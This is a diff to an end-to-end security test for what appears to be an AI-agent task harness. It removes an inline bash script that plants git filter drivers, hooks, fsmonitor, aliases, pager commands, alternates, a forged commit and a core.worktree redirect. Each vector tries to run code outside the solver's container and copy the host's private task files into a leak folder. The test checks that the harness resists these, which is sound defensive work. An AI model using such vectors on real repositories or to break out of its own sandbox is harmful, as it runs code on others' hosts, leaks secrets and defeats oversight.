@@ -24,61 +24,13 @@ import { emptyTrajectory } from '../../src/core/trajectory/types';
 import { RepoAtStep } from '../../src/core/viewer/repoAtStep';
 import { readManifest } from '../../src/core/workspace/manifest';
 import { assertNoContainers, requireDocker } from '../harness/docker';
-import { PRIVATE_SENTINEL, SOLVER_WORK, plantPrivateSentinel } from '../fixtures/vectors';
+import { CONTAINER_PLANT, PRIVATE_SENTINEL, SOLVER_WORK, plantPrivateSentinel } from '../fixtures/vectors';
 import { cli } from './cli.helpers';
 
 const TASK = 'sample/toycal/0';
 /** A sentence of the sample's expected_outcome and a line of its masked script (as in test/e2e/proctor.e2e.test.ts). */
 const OUTCOME = 'Temperature scaling reduces the test ECE from about 0.032 to about 0.012';
 const MASKED = 'grid = [0.5 + 0.05 * i for i in range(91)]';
-
-/**
- * What the solver types, as a script run by bash in /workspace (user solver). `$1`: the object
- * folder of the pristine cache (a solver guesses its host path), `$2`: the pinned commit's tree id
- * (public: the paper's repository). Every planted program writes `<session>/private/pwned-<name>-<pid>`
- * (a host path that nothing in the container can write) and copies private/ into .git/leak-<name>/.
- */
-const PLANT = String.raw`
-set -e
-H=$(awk '$5=="/workspace"{print $4}' /proc/self/mountinfo)
-P="$(dirname "$H")/private"
-mark() { echo "sh -c 'id > $P/pwned-$1-\$\$; cp -r $P/. $H/.git/leak-$1/ 2>/dev/null; cat'"; }
-# The issue's attack, as typed there.
-printf '%s\n' "cp -r $(dirname $H)/private/. $H/.git/leak/; id > $H/.git/leak/whoami; exit 1" > .git/x.sh
-git config filter.x.clean "sh .git/x.sh"; git config filter.x.required true
-echo "* filter=x" > .git/info/attributes; echo scratch > scratch.txt
-mkdir -p .git/leak
-# The other filter kinds, a driver through include.path, the diff and merge drivers.
-git config filter.vs.smudge "$(mark smudge)"; git config filter.vs.clean cat
-git config filter.vp.process "$(mark process)"; git config filter.vp.required true
-git config -f .git/planted.cfg filter.vi.clean "$(mark include)"; git config -f .git/planted.cfg filter.vi.required true
-git config include.path planted.cfg
-git config diff.external "$(mark diff-external)"; git config diff.vd.textconv "$(mark textconv)"; git config merge.vd.driver "$(mark merge)"
-printf '*.py filter=vs diff=vd merge=vd\n*.md filter=vi\n*.sh filter=vp\n' > .gitattributes
-echo '*.txt filter=vp' >> .git/info/attributes
-# Hooks (both places), fsmonitor, aliases, pager.
-mkdir -p .githooks .git/hooks
-for h in post-index-change reference-transaction pre-commit post-commit post-checkout pre-auto-gc; do
-  printf '#!/bin/sh\n%s </dev/null\n' "$(mark hook-$h)" | tee .git/hooks/$h > .githooks/$h; chmod +x .git/hooks/$h .githooks/$h
-done
-git config core.hooksPath "$H/.githooks"
-printf '#!/bin/sh\n%s </dev/null\nexit 1\n' "$(mark fsmonitor)" > .git/fsmon.sh; chmod +x .git/fsmon.sh; git config core.fsmonitor "$H/.git/fsmon.sh"
-for a in status diff add apply show ls-files read-tree checkout-index write-tree log; do git config alias.$a "!$(mark alias-$a)"; done
-git config core.pager "$(mark pager)"; git config pager.diff "$(mark pager-diff)"
-# A nested repository with its own filter, recorded in the solver's index as a gitlink.
-mkdir -p nested && cd nested && git init -q -b main && git config filter.vn.clean "$(mark nested)" && git config filter.vn.required true
-echo '* filter=vn' > .gitattributes; echo "${SOLVER_WORK} nested v1" > nested.txt
-git -c filter.vn.clean=cat add -A && git -c filter.vn.clean=cat -c user.name=s -c user.email=s@x commit -qm mine
-echo "${SOLVER_WORK} nested v2" > nested.txt; cd ..
-git -c advice.addEmbeddedRepo=false add nested
-# Alternates into the pristine cache, and HEAD a forged root "task start" of the UNMASKED tree.
-echo "$1" > .git/objects/info/alternates
-C=$(printf 'tree %s\nauthor s <s@x> 1700000000 +0000\ncommitter s <s@x> 1700000000 +0000\n\ntask start\n' "$2" | git hash-object -t commit -w --stdin --literally)
-git update-ref HEAD "$C"
-# Last: the work tree of the solver's repository is the host's private/ (git status lists private/task.json).
-git config core.worktree "$P"
-echo planted
-`;
 
 describe('issue 26: the vectors planted from inside the work container run nothing on the host (Docker, CLI)', function () {
   this.timeout(900_000);
@@ -118,7 +70,7 @@ describe('issue 26: the vectors planted from inside the work container run nothi
     const m = await readManifest(layout.root);
     const tree = execFileSync('git', ['--git-dir', m.source.cacheRepo!, 'rev-parse', `${m.commit}^{tree}`], { encoding: 'utf8' }).trim();
     const { container } = await ensureWorkContainer(docker, { task: TASK, session: sessionId(), workspaceDir: layout.workspace, image: DEFAULT_IMAGE, limits: { network: false } });
-    const planted = await execText(container, { cmd: ['bash', '-c', `SOLVER_WORK=${SOLVER_WORK}\n${PLANT}`, 'sh', path.join(m.source.cacheRepo!, 'objects'), tree] });
+    const planted = await execText(container, { cmd: ['bash', '-c', CONTAINER_PLANT, 'sh', path.join(m.source.cacheRepo!, 'objects'), tree] });
     assert.equal(planted.exitCode, 0, planted.stderr);
     assert.match(planted.stdout, /planted/);
     assert.equal((await execText(container, { cmd: ['id', '-un'] })).stdout.trim(), 'solver');
